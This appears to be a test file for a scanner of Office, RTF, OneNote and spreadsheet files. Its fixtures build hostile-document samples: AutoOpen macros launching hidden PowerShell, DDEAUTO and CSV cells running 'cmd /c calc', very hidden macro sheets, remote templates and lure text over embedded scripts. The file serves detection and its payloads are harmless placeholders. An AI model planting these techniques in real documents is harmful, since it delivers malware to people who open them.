import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { deflateSync } from "node:zlib";
import { encryptAgile, encryptOld } from "../../../formats/encryption/encryption.test-support.ts";
import { changeAtRandom } from "../../../formats/change-at-random.test-support.ts";
import {
  writeNativeStream,
  writeOle1Object,
  writePackage,
  writeUrlMoniker,
} from "../../../formats/ole/package.test-support.ts";
import { writeVbaProject, writeVbaStorage } from "../../../formats/ole/vba.test-support.ts";
import { writeCompoundFile } from "../../../formats/ole/write-compound-file.ts";
import { writeOneNote } from "../../../formats/onenote/onenote.test-support.ts";
import { property } from "../../../formats/outlook/mapi.ts";
import { writeTnef } from "../../../formats/tnef/tnef.test-support.ts";
import { lookAt, lookInto } from "../look.test-support.ts";
import { officeFormats } from "./office-formats.ts";
import { officePackage } from "./read-office-package.ts";
import { openDocumentPackage } from "./read-open-document.ts";
import { placeOf } from "./tell-target.ts";

const autoRun = 'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\n  Shell "powershell -w hidden"\r\nEnd Sub\r\n';

/** A workbook's stream out of records. */
function writeRecords(...records: readonly (readonly [number: number, data: Buffer])[]): Buffer {
  return Buffer.concat(
    records.map(([number, data]) => {
      const head = Buffer.alloc(4);
      head.writeUInt16LE(number, 0);
      head.writeUInt16LE(data.length, 2);
      return Buffer.concat([head, data]);
    }),
  );
}

describe("a document of the old Office", () => {
  it("tells of macros, what sets them off and what they start", async () => {
    const bytes = writeCompoundFile({
      classId: "00020906-0000-0000-C000-000000000046",
      members: [
        ["WordDocument", Buffer.alloc(600)],
        ["Macros", { members: [["VBA", writeVbaStorage([{ name: "M", source: autoRun }])]] }],
      ],
    });
    const { contents } = await lookAt(officeFormats, "letter.doc", bytes);
    assert.deepEqual(contents, [
      "macro: M",
      "macro-runs-on-open: autoopen",
      "macro-starts-program: powershell -w hidden",
    ]);
  });

  it("says nothing of modules without code", async () => {
    const source = 'Attribute VB_Name = "ThisWorkbook"\r\nAttribute VB_Base = "0{0}"\r\nOption Explicit\r\n';
    const { contents } = await lookAt(
      officeFormats,
      "vbaProject.bin",
      writeVbaProject([{ name: "ThisWorkbook", source }]),
    );
    assert.deepEqual(contents, []);
  });

  it("does not judge a macro whose text was taken out", async () => {
    const stream = Buffer.alloc(700, 0x41);
    const { contents, unjudged } = await lookAt(
      officeFormats,
      "a.doc",
      writeVbaProject([{ name: "M", source: "", stream, offset: 500 }]),
    );
    assert.deepEqual(contents, ["macro: M", "macro-hides: M"]);
    assert.equal(unjudged.length, 1);
  });

  it("gives the files that were put into it, and says what they are called", async () => {
    const native = writeNativeStream({
      label: "Invoice.pdf",
      path: "C:\\x\\Invoice.pdf.js",
      content: Buffer.from("1+1"),
    });
    const bytes = writeCompoundFile({
      members: [
        [
          "ObjectPool",
          {
            members: [
              ["_1", { classId: "0003000C-0000-0000-C000-000000000046", members: [["\u0001Ole10Native", native]] }],
            ],
          },
        ],
      ],
    });
    const { contents, files } = await lookAt(officeFormats, "letter.doc", bytes);
    assert.deepEqual(contents, ["embedded-object: Package", "embedded-file: Invoice.pdf"]);
    assert.deepEqual([...files], [["Invoice.pdf", "1+1"]]);
  });

  it("gives documents inside of it as files of their own", async () => {
    const inner = {
      classId: "00020820-0000-0000-C000-000000000046",
      members: [["Workbook", Buffer.alloc(64)]],
    } as const;
    const bytes = writeCompoundFile({ members: [["ObjectPool", { members: [["_2", inner]] }]] });
    const { contents, files } = await lookAt(officeFormats, "letter.doc", bytes);
    assert.deepEqual(contents, ["embedded-object: Excel.Sheet.8"]);
    assert.deepEqual([...files.keys()], ["ObjectPool-_2.xls"]);
  });

  it("tells of links to other places and of equations", async () => {
    const bytes = writeCompoundFile({
      members: [
        ["\u0001Ole", Buffer.concat([Buffer.alloc(20), writeUrlMoniker("http://files.example/a.hta")])],
        ["Equation Native", Buffer.alloc(40)],
      ],
    });
    const { contents } = await lookAt(officeFormats, "object", bytes);
    assert.deepEqual(contents, ["external-object: http://files.example/a.hta", "embedded-object: Equation.3"]);
  });

  it("tells of fields that start commands", async () => {
    const text = Buffer.concat([
      Buffer.alloc(512),
      Buffer.from('\u0013DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"\u0014x\u0015', "latin1"),
    ]);
    text.writeUInt16LE(0xa5_ec, 0);
    const { contents } = await lookAt(officeFormats, "a.doc", writeCompoundFile({ members: [["WordDocument", text]] }));
    assert.deepEqual(contents, ['field-command: c:\\windows\\cmd.exe "/k calc"', "updates-by-itself"]);
  });

  it("is never clear when it is encrypted", async () => {
    const word = Buffer.alloc(512);
    word.writeUInt16LE(0xa5_ec, 0);
    word.writeUInt16LE(0x01_00, 10);
    for (const members of [
      [["EncryptedPackage", Buffer.alloc(100)]],
      [["WordDocument", word]],
      [["Workbook", writeRecords([0x8_09, Buffer.alloc(16)], [0x2f, Buffer.alloc(54)])]],
    ] as const) {
      const { contents, unjudged } = await lookAt(officeFormats, "a.doc", writeCompoundFile({ members }));
      assert.deepEqual(contents, ["encrypted"]);
      assert.deepEqual(unjudged, ["encrypted"]);
    }
  });

  it("is opened with the password that Excel has for everybody", async () => {
    const { info, content } = encryptAgile(Buffer.from("the document"), "VelvetSweatshop");
    const bytes = writeCompoundFile({
      members: [
        ["EncryptionInfo", info],
        ["EncryptedPackage", content],
      ],
    });
    const seen = await lookAt(officeFormats, "a.xlsx", bytes);
    assert.deepEqual(seen.contents, ["encrypted: VelvetSweatshop"]);
    assert.deepEqual([...seen.files], [["opened", "the document"]]);
    assert.deepEqual(seen.unjudged, []);
    // Word and PowerPoint ask.
    assert.deepEqual((await lookAt(officeFormats, "a.docx", bytes)).unjudged, ["encrypted"]);
  });

  it("of cells is opened with it as well", async () => {
    const { filePass, encrypt } = encryptOld("VelvetSweatshop");
    const begin = Buffer.from([0, 6, 0x40, 0]);
    const tokens = Buffer.from([0x17, 4, 0, 0x63, 0x61, 0x6c, 0x63, 0x42, 1, 110, 0]);
    const formula = Buffer.concat([Buffer.alloc(20), Buffer.from([tokens.length, 0]), tokens]);
    const plain = writeRecords([0x8_09, begin], [0x2f, filePass], [0x06, formula]);
    const stream = encrypt(plain);
    const head = 8 + 4 + filePass.length + 4;
    plain.copy(stream, 0, 0, head);
    const seen = await lookAt(officeFormats, "a.xls", writeCompoundFile({ members: [["Workbook", stream]] }));
    assert.deepEqual(seen.contents, ["encrypted: VelvetSweatshop", 'sheet-macro: EXEC("calc")']);
  });

  it("tells of macros in the cells of hidden sheets", async () => {
    const sheet = Buffer.from("\0\0\0\0\u0002\u0001\u0006\0Macro1", "latin1");
    const name = Buffer.concat([Buffer.from([0x20, 0, 0, 1]), Buffer.alloc(10), Buffer.from([0, 1])]);
    const tokens = Buffer.from([0x17, 4, 0, 0x63, 0x61, 0x6c, 0x63, 0x42, 1, 110, 0]);
    const formula = Buffer.concat([Buffer.alloc(20), Buffer.from([tokens.length, 0]), tokens]);
    const begin = Buffer.from([0, 6, 0x40, 0]);
    const stream = writeRecords(
      [0x8_09, Buffer.from([0, 6, 5, 0])],
      [0x85, sheet],
      [0x18, name],
      [0x8_09, begin],
      [0x06, formula],
    );
    const { contents } = await lookAt(officeFormats, "a.xls", writeCompoundFile({ members: [["Workbook", stream]] }));
    assert.deepEqual(contents, [
      "sheet-macro",
      'sheet-macro: EXEC("calc")',
      "macro-runs-on-open: Auto_Open",
      "hidden-sheet: very hidden",
    ]);
  });
});

function relationships(...list: readonly string[]): string {
  return `<Relationships>${list.join("")}</Relationships>`;
}

function external(type: string, target: string): string {
  return `<Relationship Id="r1" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/>`;
}

function run(inside: string): string {
  return `<w:r>${inside}</w:r>`;
}

function mark(type: string): string {
  return run(`<w:fldChar w:fldCharType="${type}"/>`);
}

function words(text: string): string {
  return run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
}

describe("a document of Office that is an archive", () => {
  it("tells what of it is loaded from elsewhere", async () => {
    const contents = await lookInto(
      officePackage,
      { name: "a.docx", type: "docx" },
      {
        "word/_rels/settings.xml.rels": relationships(external("attachedTemplate", "http://files.example/t.dotm")),
        "word/_rels/document.xml.rels": relationships(
          external("oleObject", "mhtml:http://files.example/a.html!x"),
          external("image", "file:///\\\\files.example\\share\\a.png"),
          external("hyperlink", "https://a.example/"),
          external("image", "https://cdn.a.example/logo.png"),
          external("oleObject", "file:///C:\\Users\\a\\Book1.xlsx"),
        ),
      },
    );
    assert.deepEqual(contents.toSorted(), [
      "external-object: file:///\\\\files.example\\share\\a.png",
      "external-object: mhtml:http://files.example/a.html!x",
      "link: https://a.example/",
      "opens-address: https://cdn.a.example/logo.png",
      "remote-template: http://files.example/t.dotm",
    ]);
  });

  it("tells of a command in a field, over all runs and inside of other fields", async () => {
    const split = `${mark("begin")}${words(" D")}${words("DEAU")}${words('TO "cmd" "/c calc"')}${mark("separate")}${mark("end")}`;
    const quoted = `${mark("begin")}${words("DDEAUTO ")}${mark("begin")}${words("QUOTE 99 109 100")}${mark("end")}${mark("end")}`;
    const contents = await lookInto(
      officePackage,
      { name: "a.docx", type: "docx" },
      {
        "word/document.xml": `<w:document>${split}${quoted}<w:fldSimple w:instr="PAGE"/></w:document>`,
      },
    );
    assert.deepEqual(contents, [
      'field-command: "cmd" "/c calc"',
      "updates-by-itself",
      "field-command: cmd",
      "updates-by-itself",
    ]);
  });

  it("tells of macros under any ending, and of sheets with the old ones", async () => {
    const contents = await lookInto(
      officePackage,
      { name: "a.xlsx", type: "xlsm" },
      {
        "[Content_Types].xml": "<Types/>",
        "xl/vbaProject.bin": "x",
        "xl/macrosheets/sheet1.xml": '<xm:macrosheet><c><f>EXEC("calc")</f></c><c><f>SUM(A1)</f></c></xm:macrosheet>',
        "xl/workbook.xml":
          '<workbook><sheets><sheet name="M" state="veryHidden"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M!A1</definedName></definedNames></workbook>',
        "xl/externalLinks/externalLink1.xml":
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      },
    );
    assert.deepEqual(contents, [
      "macro",
      "sheet-macro",
      "field-command: cmd /c calc",
      'sheet-macro: EXEC("calc")',
      "macro-runs-on-open: _xlnm.Auto_Open",
      "hidden-sheet: very hidden",
    ]);
  });

  it("is read although its parts have names of their own", async () => {
    const members = {
      "[Content_Types].xml": "<Types/>",
      "_rels/.rels": "<Relationships/>",
      "a/b.xml": `<w:document>${mark("begin")}${words("DDE cmd")}${mark("end")}</w:document>`,
      "a/_rels/c.xml.rels": relationships(external("attachedTemplate", "http://files.example/t.dotm")),
    };
    assert.equal(officePackage.isSuch?.(Object.keys(members)), true);
    assert.deepEqual(await lookInto(officePackage, { name: "a.docx", type: "zip" }, members), [
      "remote-template: http://files.example/t.dotm",
      "field-command: cmd",
    ]);
  });

  it("tells of shapes that start a program when the pointer moves over them", async () => {
    const contents = await lookInto(
      officePackage,
      { name: "a.pptx", type: "pptx" },
      {
        "ppt/slides/slide1.xml": '<p:sld><a:hlinkMouseOver r:id="r1" action="ppaction://program"/></p:sld>',
        "ppt/slides/_rels/slide1.xml.rels": relationships(external("hyperlink", "powershell.exe")),
      },
    );
    assert.deepEqual(contents, ["launch-action: powershell.exe", "opens-by-itself: a pointer moves over a shape"]);
  });
});

describe("a document of LibreOffice", () => {
  it("tells of macros, of events that call them, and of what is loaded from elsewhere", async () => {
    const contents = await lookInto(
      openDocumentPackage,
      { name: "a.odt", type: "odt" },
      {
        "META-INF/manifest.xml": "<manifest/>",
        "Basic/Standard/script-lb.xml": "<library/>",
        "Basic/Standard/Module1.xml":
          "<script:module>Sub Main\n  Shell(&quot;cmd /c calc&quot;)\nEnd Sub</script:module>",
        "content.xml":
          '<office:document-content><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main"/><draw:object xlink:href="http://files.example/o.odt"/><text:a xlink:href="https://a.example/">a</text:a></office:document-content>',
      },
    );
    assert.deepEqual(contents, [
      "macro: Standard/Module1",
      "macro-starts-program: cmd /c calc",
      "macro-runs-on-open: vnd.sun.star.script:Standard.Module1.Main",
      "external-object: http://files.example/o.odt",
      "link: https://a.example/",
    ]);
  });
});

it("gives the files in RTF, and says what starts by itself", async () => {
  const object = writeOle1Object(
    "Package",
    writePackage({ label: "a.js", path: "C:\\a.js", content: Buffer.from("1") }),
  );
  const rtf = String.raw`{\rtf1{\*\template http://files.example/t.dot}{\object\objemb\objupdate{\*\objdata ${object.toString("hex")}}}}`;
  const { contents, files } = await lookAt(officeFormats, "a.rtf", rtf);
  assert.deepEqual(contents, [
    "embedded-object: Package",
    "updates-by-itself: Package",
    "embedded-file: a.js",
    "remote-template: http://files.example/t.dot",
  ]);
  assert.deepEqual([...files], [["a.js", "1"]]);
});

it("reads RTF whose beginning only Word takes for one", async () => {
  const { contents } = await lookAt(officeFormats, "a.doc", String.raw`{\rt{\*\template http://files.example/t.dot}}`);
  assert.deepEqual(contents, ["remote-template: http://files.example/t.dot"]);
});

it("gives the files of a OneNote section, and the words over them", async () => {
  const section = writeOneNote(
    [{ name: "a.hta", ending: ".hta", content: Buffer.from("x") }],
    ["Double click to view document"],
  );
  const { contents, files } = await lookAt(officeFormats, "a.one", section);
  assert.deepEqual(contents, ["embedded-file: a.hta", "lure-text: Double click to view document"]);
  assert.deepEqual([...files.keys()], ["a.hta"]);
});

it("gives the attachments and the body of a winmail.dat", async () => {
  const bytes = writeTnef({
    properties: [[property.body, "Hello"]],
    attachments: [{ name: "a.scr", content: Buffer.from("MZ") }],
  });
  const { files } = await lookAt(officeFormats, "winmail.dat", bytes);
  assert.deepEqual(
    [...files],
    [
      ["a.scr", "MZ"],
      ["body.txt", "Hello"],
    ],
  );
});

it("tells links last and once, so that thousands of them crowd nothing out", async () => {
  const links = Array.from({ length: 3000 }, (_, index) => external("hyperlink", `https://a.example/${index}`));
  const all = [...links, ...links, external("attachedTemplate", "http://files.example/t.dotm")];
  const contents = await lookInto(
    officePackage,
    { name: "a.docx", type: "docx" },
    { "word/_rels/document.xml.rels": relationships(...all) },
  );
  assert.equal(contents[0], "remote-template: http://files.example/t.dotm");
  assert.equal(contents.length, 701);
});

it("gives the macros beside a page that Office saved", async () => {
  const packed = Buffer.concat([Buffer.from("ActiveMime\0\0"), Buffer.alloc(38), deflateSync(Buffer.from("inside"))]);
  const { files } = await lookAt(officeFormats, "editdata.mso", packed);
  assert.deepEqual([...files], [["macros.ole", "inside"]]);
});

it("reads a document that was saved as one text", async () => {
  const text = `<?xml version="1.0"?><pkg:package><pkg:part pkg:name="/word/_rels/settings.xml.rels">${relationships(external("attachedTemplate", "http://files.example/t.dotm"))}</pkg:part><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>${Buffer.from("macros").toString("base64")}</pkg:binaryData></pkg:part>${mark("begin")}${words("DDE cmd")}${mark("end")}</pkg:package>`;
  const { contents, files } = await lookAt(officeFormats, "a.xml", text);
  assert.deepEqual(contents, ["remote-template: http://files.example/t.dotm", "field-command: cmd"]);
  assert.deepEqual([...files], [["vbaProject.bin", "macros"]]);
  assert.deepEqual((await lookAt(officeFormats, "b.xml", "<a><binaryData>QUJD</binaryData></a>")).files.size, 0);
});

it("tells of cells in a table that start a command, and of no others", async () => {
  const { contents } = await lookAt(
    officeFormats,
    "a.csv",
    "name,total\n=cmd|' /c echo'!A1,3\n-2+3+cmd|' /c x'!A0,1\n",
  );
  assert.deepEqual(contents, ["field-command: cmd  /c echo", "field-command: cmd  /c x"]);
  assert.deepEqual((await lookAt(officeFormats, "a.csv", "name,total\n-5,=SUM(A1)\n")).contents, []);
});

it("tells of macros in a table of the oldest form, and of questions to a page", async () => {
  const table = 'ID;PWXL;N;E\r\nNN;NAuto_open;ER101C1;KOut Flnk;F\r\nC;X1;Y101;K0;EEXEC("calc")\r\nE\r\n';
  assert.deepEqual((await lookAt(officeFormats, "a.slk", table)).contents, [
    'sheet-macro: EXEC("calc")',
    "macro-runs-on-open: Auto_open",
  ]);
  const query = "WEB\r\n1\r\nhttp://files.example/a.html\r\n";
  assert.deepEqual((await lookAt(officeFormats, "a.iqy", query)).contents, [
    "external-object: http://files.example/a.html",
  ]);
});

it("reads whatever hostile hands make of documents, and ends", async () => {
  const native = writeNativeStream({ label: "a.js", path: "a.js", content: Buffer.from("1") });
  const old = writeCompoundFile({
    members: [
      ["WordDocument", Buffer.concat([Buffer.from("eca5", "hex"), Buffer.alloc(600, 0x13)])],
      [
        "Workbook",
        writeRecords(
          [0x8_09, Buffer.from([0, 6, 0x40, 0])],
          [0x85, Buffer.alloc(20, 1)],
          [0x18, Buffer.alloc(20, 1)],
          [0x06, Buffer.alloc(60, 0x17)],
        ),
      ],
      ["PowerPoint Document", Buffer.concat([Buffer.from("10001110100000000a000000789c", "hex"), Buffer.alloc(20)])],
      ["\u0001Ole10Native", native],
      ["Equation Native", Buffer.alloc(100, 8)],
      ["VBA", writeVbaStorage([{ name: "M", source: autoRun }])],
    ],
  });
  const section = writeOneNote([{ name: "a.hta", ending: ".hta", content: Buffer.from("x") }]);
  const mail = writeTnef({
    properties: [[property.body, "Hello"]],
    attachments: [{ name: "a.scr", content: Buffer.from("MZ") }],
  });
  for (const good of [old, section, mail])
    for (const changed of changeAtRandom(good, 150)) await lookAt(officeFormats, "a.doc", changed);
});

it("knows the web, servers and the machine at hand apart", () => {
  for (const target of ["http://a.example/", "HTTPS://a", "mhtml:http://a", "ms-word:ofe|u|http://a"])
    assert.equal(placeOf(target), "web");
  for (const target of ["\\\\a.example\\b", "//a.example/b", "file://a.example/b", "file:///\\\\a\\b", "file://///a/b"])
    assert.equal(placeOf(target), "server", target);
  for (const target of ["C:\\a", "file:///C:/a", "media/a.png", "../a", "", "#a"])
    assert.equal(placeOf(target), "local", target);
});
